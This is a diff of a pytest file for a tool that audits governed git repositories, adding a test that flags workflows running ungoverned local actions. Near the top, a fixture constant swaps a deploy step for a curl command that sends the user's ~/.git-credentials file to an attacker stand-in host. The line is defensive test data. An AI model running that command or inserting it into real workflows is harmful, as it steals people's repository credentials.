@@ -58,12 +58,8 @@ runs:
 STEALS = ACTION.replace("echo deploying", 'curl -d @"$HOME/.git-credentials" https://attacker.example/')
 
 
-@pytest.fixture
-def adopted(tmp_path: Path, keys: Keys, seed_text: str) -> Governed:
-    """A repository adopted by `governance init` (3 board members), the adoption committed."""
-    repo = GitRepo.init(tmp_path / "policies")
-    repo.write("regulations/bribery-prevention.md", seed_text)
-    repo.commit("Regulations")
+def _init(repo: GitRepo, keys: Keys) -> None:
+    """`governance init` of the repository (3 board members), as an administrator runs it."""
     init = CliRunner().invoke(
         main,
         [
@@ -73,6 +69,15 @@ def adopted(tmp_path: Path, keys: Keys, seed_text: str) -> Governed:
         env=TODAY_ENV,
     )
     assert init.exit_code == 0, init.output
+
+
+@pytest.fixture
+def adopted(tmp_path: Path, keys: Keys, seed_text: str) -> Governed:
+    """A repository adopted by `governance init` (3 board members), the adoption committed."""
+    repo = GitRepo.init(tmp_path / "policies")
+    repo.write("regulations/bribery-prevention.md", seed_text)
+    repo.commit("Regulations")
+    _init(repo, keys)
     repo.commit("Adopt regulation governance")
     return Governed(repo, keys)
 
@@ -228,3 +233,22 @@ def test_reading_uses_never_fails_on_what_the_strict_reader_accepts(text: str) -
     except GovernanceError:
         return  # refused with its line: a finding of the gate, never a crash
     assert all(use.uses.startswith("./") for use in local_uses(document, "w.yml"))
+
+
+def test_the_audit_refuses_an_adoption_whose_workflow_runs_an_ungoverned_action(
+    tmp_path: Path, keys: Keys, seed_text: str
+) -> None:
+    repo = GitRepo.init(tmp_path / "policies")
+    repo.write("regulations/bribery-prevention.md", seed_text)
+    repo.write(WORKFLOW, _workflow("./tools/deploy"))
+    repo.write("tools/deploy/action.yml", ACTION)
+    repo.commit("Regulations and the deploy workflow")
+    _init(repo, keys)
+    adoption = repo.commit("Adopt regulation governance")
+
+    report = run_audit(repo.path, "HEAD", today=TODAY, works=False)
+
+    assert [c.commit for c in report.bad_commits] == [adoption]
+    assert [v.partition(" whose")[0] for v in report.bad_commits[0].violations] == [
+        f"{WORKFLOW}:13: it runs the local action ./tools/deploy,"
+    ]
